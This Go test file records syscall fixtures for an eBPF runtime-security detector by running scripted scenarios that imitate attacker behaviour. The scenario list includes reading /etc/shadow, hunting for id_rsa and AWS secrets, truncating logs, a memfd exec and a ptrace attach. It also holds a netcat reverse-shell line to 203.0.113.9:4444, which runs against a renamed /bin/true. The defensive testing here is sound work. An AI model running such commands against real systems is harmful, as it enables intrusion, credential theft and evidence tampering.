package rules_test

// Recording of the syscall fixtures under testdata/syscall: each scenario
// runs real programs on this machine while the eBPF probe records them into
// a capture file (only the scenario's process tree; the snapshot holds this
// process and its ancestors). Needs root and BPF:
//
//	go test ./rules -run RecordSyscallCaptures -record-captures
//
// Captures are recorded data, like Falco's trace files: they are committed
// and replayed by syscall_test.yaml, not regenerated on every run.

import (
	"bytes"
	"compress/gzip"
	"errors"
	"flag"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/aeriesec/aerie/probes"
	"github.com/aeriesec/aerie/probes/capture"
	"github.com/aeriesec/aerie/probes/probetest"
	"github.com/aeriesec/aerie/probes/record"
	"github.com/aeriesec/aerie/probes/state"
	"github.com/aeriesec/aerie/runtime/kube"
)

var (
	recordCaptures = flag.Bool("record-captures", false, "record testdata/syscall/*.cap with the live probe (root)")
	recordOnly     = flag.String("record-only", "", "with -record-captures, record only the scenarios whose name matches this regexp")
)

// endMarker is the argument of the program run after each scenario; its
// exec record ends the scenario's capture.
const endMarker = "aerie-fixture-end"

// fakeContainerID is the cgroup leaf container scenarios run under.
const fakeContainerID = "5c0ffee5c0ffee5c0ffee5c0ffee5c0ffee5c0ffee5c0ffee5c0ffee5c0ffee5"

// scenario is a command line run through sh -c, with helper binaries
// prepared in dir (copies of system programs under chosen names, so the
// process names the rules look at are real task names).
type scenario struct {
	name      string
	script    string
	container bool
	// pod, for a container scenario, is the pod the fake container belongs
	// to, recorded as the container frame aerie run would have written
	// from its pod metadata.
	pod *kube.Pod
	// names is the table of resolved host names (address -> name) the
	// capture records, as aerie run would for rules naming them.
	names map[string]string
}

// shopPod and systemPod are the pods of the pod-metadata scenarios.
var (
	shopPod   = &kube.Pod{UID: "8d3a2f4e-6b1c-4e7a-9f20-3c5d7e9a1b2c", Name: "web-5d8f7", Namespace: "shop", Labels: map[string]string{"app": "web"}}
	systemPod = &kube.Pod{UID: "1f9e8d7c-6b5a-4e3d-8c2b-1a0f9e8d7c6b", Name: "metrics-agent-x7k2p", Namespace: "kube-system"}
)

func TestRecordSyscallCaptures(t *testing.T) {
	if !*recordCaptures {
		t.Skip("recording syscall captures needs -record-captures (root, BPF)")
	}
	only, err := regexp.Compile(*recordOnly)
	if err != nil {
		t.Fatalf("parse -record-only: %v", err)
	}
	dir := prepareBin(t)
	p := openAllSyscalls(t)
	defer p.Close()
	recs := make(chan []byte, 1<<16)
	go func() {
		for {
			b, err := p.Read()
			if err != nil {
				close(recs)
				return
			}
			recs <- bytes.Clone(b)
		}
	}()
	for _, sc := range syscallScenarios(dir) {
		if !only.MatchString(sc.name) {
			continue
		}
		recordScenario(t, dir, sc, recs)
	}
}

// prepareBin creates the scratch directory and the renamed program copies.
func prepareBin(t *testing.T) string {
	dir := "/tmp/aerie-fixture"
	os.RemoveAll(dir)
	if err := os.MkdirAll(filepath.Join(dir, "keys"), 0o755); err != nil {
		t.Fatal(err)
	}
	self, _ := os.Executable()
	copies := map[string]string{
		"nginx": "/bin/sh", "systemd-udevd": "/bin/sh", "logrotate": "/bin/sh",
		"chage": "/bin/cat", "nc": "/bin/true", "true": "/bin/true",
		"modprobe": self, "gdb": self, "helper": self, "ssh": self, "coredns": self, "runc": "/usr/bin/script",
	}
	for name, src := range copies {
		copyFile(t, src, filepath.Join(dir, name), 0o755)
	}
	copyFile(t, "/bin/true", "/dev/shm/aerie-fixture-true", 0o755)
	for _, f := range []string{"junk", "notes.txt", "keys/README", "release_agent"} {
		os.WriteFile(filepath.Join(dir, f), []byte("fixture data\n"), 0o644)
	}
	cg := "/sys/fs/cgroup/memory/docker/" + fakeContainerID
	if err := os.MkdirAll(cg, 0o755); err != nil {
		t.Fatalf("create container cgroup: %v", err)
	}
	t.Cleanup(func() { os.Remove(cg); os.Remove("/dev/shm/aerie-fixture-true") })
	mountOverlay(t, filepath.Join(dir, "overlay"))
	return dir
}

// mountOverlay mounts an overlay file system at dir/merged the way a
// container runtime mounts a container's root: the image's files in the
// read-only lower layer (image-true), a file written at run time in the
// upper layer (dropped-true).
func mountOverlay(t *testing.T, dir string) {
	for _, d := range []string{"lower", "upper", "work", "merged"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	copyFile(t, "/bin/true", filepath.Join(dir, "lower", "image-true"), 0o755)
	merged := filepath.Join(dir, "merged")
	opts := "lowerdir=" + filepath.Join(dir, "lower") + ",upperdir=" + filepath.Join(dir, "upper") +
		",workdir=" + filepath.Join(dir, "work")
	if err := unix.Mount("overlay", merged, "overlay", 0, opts); err != nil {
		t.Fatalf("mount overlay: %v", err)
	}
	t.Cleanup(func() { unix.Unmount(merged, 0) })
	copyFile(t, "/bin/true", filepath.Join(merged, "dropped-true"), 0o755)
}

func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, mode); err != nil {
		t.Fatal(err)
	}
}

func syscallScenarios(d string) []scenario {
	h := func(mode string) string { return "AERIE_FIXTURE_HELPER=" + mode + " " + d + "/helper" }
	return []scenario{
		{name: "shadow_read_cat", script: "cat /etc/shadow > /dev/null"},
		{name: "shadow_read_chage", script: d + "/chage /etc/shadow > /dev/null"},
		{name: "passwd_read_cat", script: "cat /etc/passwd > /dev/null"},
		{name: "nginx_spawns_shell", script: d + "/nginx -c 'sh -c id >/dev/null; true'"},
		{name: "shell_spawns_shell", script: "sh -c 'sh -c id >/dev/null; true'"},
		{name: "symlink_shadow", script: "ln -s /etc/shadow " + d + "/shadow-link"},
		{name: "symlink_hostname", script: "ln -s /etc/hostname " + d + "/hostname-link"},
		{name: "hardlink_shadow", script: "ln /etc/shadow " + d + "/shadow-hard 2>/dev/null; true"},
		{name: "hardlink_junk", script: "ln " + d + "/junk " + d + "/junk-hard"},
		{name: "traversal_passwd", script: "AERIE_FIXTURE_HELPER=traverse exec " + d + "/helper"},
		{name: "traversal_from_shell", script: h("traverse")},
		{name: "plain_passwd_open", script: h("open-passwd")},
		{name: "find_private_keys", script: "find " + d + " -name id_rsa"},
		{name: "find_text_files", script: "find " + d + " -name '*.txt'"},
		{name: "grep_aws_credentials", script: "grep -rs aws_secret_access_key " + d + "; true"},
		{name: "grep_notes", script: "grep -rs fixture " + d + " >/dev/null; true"},
		{name: "truncate_log", script: ": > /var/log/aerie-fixture.log; rm -f /var/log/aerie-fixture.log"},
		{name: "logrotate_truncates_log", script: d + "/logrotate -c ': > /var/log/aerie-fixture.log'; rm -f /var/log/aerie-fixture.log"},
		{name: "append_log", script: "echo x >> /var/log/aerie-fixture.log; rm -f /var/log/aerie-fixture.log"},
		{name: "shred_file", script: "shred -u " + d + "/junk"},
		{name: "remove_file", script: "rm -f " + d + "/notes.txt"},
		{name: "exec_from_dev_shm", script: "/dev/shm/aerie-fixture-true"},
		{name: "exec_from_tmp", script: d + "/true"},
		{name: "memfd_exec", script: h("memfd")},
		{name: "ptrace_attach", script: h("ptrace-attach")},
		{name: "ptrace_traceme", script: h("traceme")},
		{name: "gdb_traceme", script: "AERIE_FIXTURE_HELPER=traceme " + d + "/gdb"},
		{name: "module_load_attempt", script: h("finit")},
		{name: "udev_modprobe", script: d + "/systemd-udevd -c 'AERIE_FIXTURE_HELPER=finit " + d + "/modprobe; true'"},
		{name: "netcat_exec", script: d + "/nc -e /bin/sh 203.0.113.9 4444"},
		{name: "netcat_scan", script: d + "/nc -z 203.0.113.9 80"},
		{name: "container_api_connect", script: h("connect-api"), container: true},
		{name: "container_coredns_api_connect", script: "AERIE_FIXTURE_HELPER=connect-api " + d + "/coredns", container: true},
		{name: "container_other_connect", script: h("connect-other"), container: true},
		{name: "host_api_connect", script: h("connect-api")},
		{name: "container_api_by_name", script: h("connect-api-k3s"), container: true, pod: shopPod,
			names: map[string]string{"10.43.0.1": "kubernetes.default.svc.cluster.local"}},
		{name: "container_kube_system_api_connect", script: h("connect-api"), container: true, pod: systemPod},
		{name: "container_packet_socket", script: h("packet"), container: true},
		{name: "host_packet_socket", script: h("packet")},
		{name: "container_reverse_shell", script: h("dup-socket"), container: true},
		{name: "container_dup_pipe", script: h("dup-pipe"), container: true},
		{name: "container_shell", script: "sh -c 'id >/dev/null'", container: true},
		{name: "container_terminal_shell", script: "SHELL=/bin/sh " + d + "/runc -qc 'id' /dev/null >/dev/null", container: true},
		{name: "nginx_reads_shadow_late", script: d + "/nginx -c 'sleep 6; read x < /etc/shadow'"},
		{name: "nginx_reads_shadow_at_start", script: d + "/nginx -c 'read x < /etc/shadow'"},
		{name: "release_agent_write", script: "echo /tmp/x > " + d + "/release_agent"},
		{name: "ssh_public_https", script: "AERIE_FIXTURE_HELPER=connect-other " + d + "/ssh"},
		{name: "ssh_private_https", script: "AERIE_FIXTURE_HELPER=connect-api " + d + "/ssh"},
		{name: "www_data_terminal_shell", script: "SHELL=/bin/sh setpriv --reuid=33 --regid=33 --clear-groups script -qc 'id' /dev/null >/dev/null"},
		{name: "root_terminal_shell", script: "SHELL=/bin/sh script -qc 'id' /dev/null >/dev/null"},
		{name: "container_debugfs", script: "debugfs -R stats /dev/null >/dev/null 2>&1; true", container: true},
		{name: "container_debugfs_no_caps", script: "setpriv --inh-caps=-all --bounding-set=-all debugfs -R stats /dev/null >/dev/null 2>&1; true", container: true},
		{name: "host_debugfs", script: "debugfs -R stats /dev/null >/dev/null 2>&1; true"},
		{name: "container_new_binary", script: d + "/overlay/merged/dropped-true", container: true},
		{name: "container_image_binary", script: d + "/overlay/merged/image-true", container: true},
		{name: "host_new_binary", script: d + "/overlay/merged/dropped-true"},
	}
}

// recordScenario runs sc and writes testdata/syscall/<name>.cap.
func recordScenario(t *testing.T, dir string, sc scenario, recs <-chan []byte) {
	path := filepath.Join("testdata", "syscall", sc.name+".cap")
	os.MkdirAll(filepath.Dir(path), 0o755)
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	w, err := capture.NewWriter(f, snapshotTable(t), "fixture-host")
	if err != nil {
		t.Fatal(err)
	}
	if sc.names != nil {
		if err := w.Names(sc.names); err != nil {
			t.Fatal(err)
		}
	}
	if sc.pod != nil {
		c := &kube.Container{ID: fakeContainerID, Runtime: "docker", Name: "app", Image: "registry.example/app:1.0", Pod: sc.pod}
		if err := w.Container(c); err != nil {
			t.Fatal(err)
		}
	}
	script := sc.script
	if sc.container {
		script = "echo $$ > /sys/fs/cgroup/memory/docker/" + fakeContainerID + "/cgroup.procs && exec sh -c '" +
			strings.ReplaceAll(script, "'", `'\''`) + "'"
	}
	cmd := exec.Command("/bin/sh", "-c", script)
	cmd.Dir = dir
	// A fixed environment: the recording machine's PATH would show in the
	// shells' PATH searches (failed execve records) and its variables in
	// the environment records.
	cmd.Env = []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root",
		"AERIE_FIXTURE_DIR=" + dir}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Logf("%s: %v: %s", sc.name, err, out)
	}
	if err := exec.Command("/bin/true", endMarker).Run(); err != nil {
		t.Fatal(err)
	}
	n := copyTree(t, recs, w)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	t.Logf("%s: %d records", sc.name, n)
}

// copyTree writes the records of this process's children (and their
// descendants) until the end marker's exec, and returns how many.
func copyTree(t *testing.T, recs <-chan []byte, w *capture.Writer) int {
	self := uint32(os.Getpid())
	tree := map[uint32]bool{}
	n := 0
	deadline := time.After(20 * time.Second)
	for {
		var b []byte
		select {
		case b = <-recs:
		case <-deadline:
			t.Fatal("no end marker from the probe within 20s")
		}
		var r record.Record
		if record.Decode(b, &r) != nil {
			continue
		}
		if keep, end := inTree(&r, self, tree); end {
			return n
		} else if keep {
			if r.Kind == record.KindEnv {
				b = capture.EditEnv(&r, scrubProcess)
			}
			if err := w.Record(b); err != nil {
				t.Fatal(err)
			}
			n++
		}
	}
}

func inTree(r *record.Record, self uint32, tree map[uint32]bool) (keep, end bool) {
	switch r.Kind {
	case record.KindExec:
		info, _ := r.Exec()
		if info.PPid == self && strings.Contains(string(r.Params[record.ParamArgv]), endMarker) {
			return false, true
		}
		if info.PPid == self || tree[info.PPid] {
			tree[r.Tgid] = true
		}
	case record.KindFork:
		if fk, ok := r.Fork(); ok && tree[fk.ParentTgid] {
			tree[r.Tgid] = true
		}
	}
	return tree[r.Tgid], false
}

// snapshotTable is this process and its ancestors, read from /proc.
// scrubProcess keeps what rules read of the recorder's ancestors (names,
// ids, credentials, executables) and drops what only describes the
// recording machine: their arguments (a sandbox's init may carry its whole
// environment), the checkout's path in their working directories, every
// environment variable but the fixtures' own (AERIE_*, SHELL), and the
// identity of the machine's own init and agents above the shells.
func scrubProcess(p *state.Process) {
	p.Args = nil
	p.Env = fixtureEnv(p.Env)
	probetest.GenericInit(p)
	if wd, err := os.Getwd(); err == nil && strings.HasPrefix(p.Cwd, filepath.Dir(wd)) {
		p.Cwd = "/src/aerie" + strings.TrimPrefix(p.Cwd, filepath.Dir(wd))
	}
}

// fixtureEnv keeps the variables the fixture scripts set.
func fixtureEnv(env []string) []string {
	var out []string
	for _, kv := range env {
		if strings.HasPrefix(kv, "AERIE_") || strings.HasPrefix(kv, "SHELL=") {
			out = append(out, kv)
		}
	}
	return out
}

func snapshotTable(t *testing.T) *state.Table {
	var ts unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_BOOTTIME, &ts); err != nil {
		t.Fatal(err)
	}
	tab := state.NewTable(state.LoadUsers("/"), time.Now().UnixNano()-ts.Nano())
	fs := &state.ProcFS{Root: "/proc"}
	for pid := int64(os.Getpid()); pid > 0; {
		p := fs.Process(uint32(pid))
		if p == nil {
			break
		}
		p.FDs = state.NewFDTable()
		scrubProcess(p)
		tab.Put(p)
		pid = p.PPid
	}
	return tab
}

// openAllSyscalls attaches the probe with every syscall it knows in its
// interest set, as the recorders want the whole stream.
func openAllSyscalls(t *testing.T) *probes.Probe {
	t.Helper()
	p, err := probes.Open(probes.Options{})
	if err != nil {
		t.Fatalf("open probe: %v", err)
	}
	nrs := make([]uint16, 0, len(record.Syscalls))
	for _, s := range record.Syscalls {
		nrs = append(nrs, s.NR)
	}
	if err := p.SetInterest(nrs); err != nil {
		p.Close()
		t.Fatal(err)
	}
	return p
}

var recordHost = flag.Duration("record-host", 0, "record testdata/syscall/busy_host.cap (gzip it to busy_host.cap.gz): every process on this host for this long (root)")

// TestRecordHostCapture records the whole host for a while: the noise
// fixture of ordinary activity (builds, tests, shells, daemons).
func TestRecordHostCapture(t *testing.T) {
	if *recordHost == 0 {
		t.Skip("recording the host needs -record-host DURATION (root, BPF)")
	}
	p := openAllSyscalls(t)
	defer p.Close()
	tab := snapshotTable(t)
	(&state.ProcFS{Root: "/proc"}).Seed(tab)
	tab.Each(scrubProcess)
	f, err := os.Create(filepath.Join("testdata", "syscall", "busy_host.cap"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	w, err := capture.NewWriter(f, tab, "fixture-host")
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		time.Sleep(*recordHost) // a recording window, not synchronisation
		p.Close()
	}()
	n := 0
	for {
		b, err := p.Read()
		if err != nil {
			break
		}
		if err := w.Record(b); err != nil {
			t.Fatal(err)
		}
		n++
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	t.Logf("busy_host: %d records", n)
}

var scrubHost = flag.Bool("scrub-host-capture", false, "rewrite testdata/syscall/busy_host.cap.gz with its snapshot and environments through scrubProcess")

// TestScrubHostCapture rewrites the committed busy-host capture with the
// recorders' scrubbing applied to its snapshot and environment records
// (captures recorded before the scrubbing existed).
func TestScrubHostCapture(t *testing.T) {
	if !*scrubHost {
		t.Skip("rewriting the busy-host capture needs -scrub-host-capture")
	}
	path := filepath.Join("testdata", "syscall", "busy_host.cap.gz")
	in, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	zr, err := gzip.NewReader(in)
	if err != nil {
		t.Fatal(err)
	}
	cr, err := capture.NewReader(zr)
	if err != nil {
		t.Fatal(err)
	}
	tab := cr.Table()
	tab.Each(scrubProcess)
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	w, err := capture.NewWriter(zw, tab, cr.Snapshot.Host)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for {
		b, err := cr.Next(tab)
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		var r record.Record
		if record.Decode(b, &r) == nil && r.Kind == record.KindEnv {
			b = capture.EditEnv(&r, scrubProcess)
		}
		if err := w.Record(b); err != nil {
			t.Fatal(err)
		}
		n++
	}
	in.Close()
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, out.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("busy_host: %d records rewritten", n)
}
